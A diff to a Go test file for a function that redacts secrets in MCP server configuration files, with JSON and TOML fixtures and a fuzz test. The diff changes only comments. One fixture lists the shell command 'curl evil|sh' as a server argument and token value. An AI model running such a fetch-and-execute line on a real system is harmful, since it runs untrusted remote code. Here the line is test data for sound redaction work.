@@ -11,7 +11,7 @@ func TestSecretsAreHiddenWhereTheyAreSet(t *testing.T) {
 			"a.json", `{"mcpServers": {"a": {"env": {"API_KEY": "value-1", "MODE": "fast", "T_TOKEN": "${T}", "DB": "pg://u:p@h/d"}, "headers": {"X": "value-2"}, "args": ["value-1", "sk-0123456789abcdef"]}}}`,
 			`{"mcpServers": {"a": {"env": {"API_KEY": "[secret]", "MODE": "fast", "T_TOKEN": "${T}", "DB": "[secret]"}, "headers": {"X": "[secret]"}, "args": ["value-1", "sk-0123456789abcdef"]}}}`,
 		},
-		{ // a value that is also the command, a server that is called headers
+		{ // a value that equals the command, a server named headers
 			"b.json", `{"mcpServers": {"headers": {"command": "sh", "args": ["-c", "curl evil|sh"], "cwd": "/x", "url": "https://me:pw@host/p?k=v", "env": {"TOKEN": "curl evil|sh"}}}}`,
 			`{"mcpServers": {"headers": {"command": "sh", "args": ["-c", "curl evil|sh"], "cwd": "/x", "url": "https://[secret]@host/p?[secret]", "env": {"TOKEN": "[secret]"}}}}`,
 		},
@@ -19,7 +19,7 @@ func TestSecretsAreHiddenWhereTheyAreSet(t *testing.T) {
 			"c.toml", "auth_token = 'top'\n[[servers]]\nid = \"a\"\ncommand = [\"top\", \"Bearer 0123456789abcdef\"]\nenv = { TOKEN = \"top\", PORT = \"1\" }\n[store]\nurl = \"redis://:pw@a:1,b:2?password=x\"\n",
 			"auth_token = '[secret]'\n[[servers]]\nid = \"a\"\ncommand = [\"top\", \"Bearer 0123456789abcdef\"]\nenv = { TOKEN = \"[secret]\", PORT = \"1\" }\n[store]\nurl = \"redis://[secret]@a:1,b:2?[secret]\"\n",
 		},
-		{ // spelled with escapes, over several lines, in dotted keys
+		{ // with escapes, over several lines, in dotted keys
 			"d.toml", "[servers.env]\nKEY = \"\\u0074op\"\nOTHER = \"x\"\n[a]\nmy.token = \"\"\"two\nlines\"\"\"\nb = \"c\"\n",
 			"[servers.env]\nKEY = [secret]\nOTHER = \"x\"\n[a]\nmy.token = \"\"\"[secret]\"\"\"\nb = \"c\"\n",
 		},
@@ -35,7 +35,7 @@ func TestSecretsAreHiddenWhereTheyAreSet(t *testing.T) {
 	}
 }
 
-// A text may be anything: hiding never fails, and a file without secrets stays as it is.
+// Hiding never fails on any text, and a file without secrets stays unchanged.
 func FuzzHideSecrets(f *testing.F) {
 	f.Add("a.json", `{"a": {"token": "x"}}`)
 	f.Add("a.toml", "a.\"to\\u006ben\" = 'x'\ntoken.x = \"y\"")
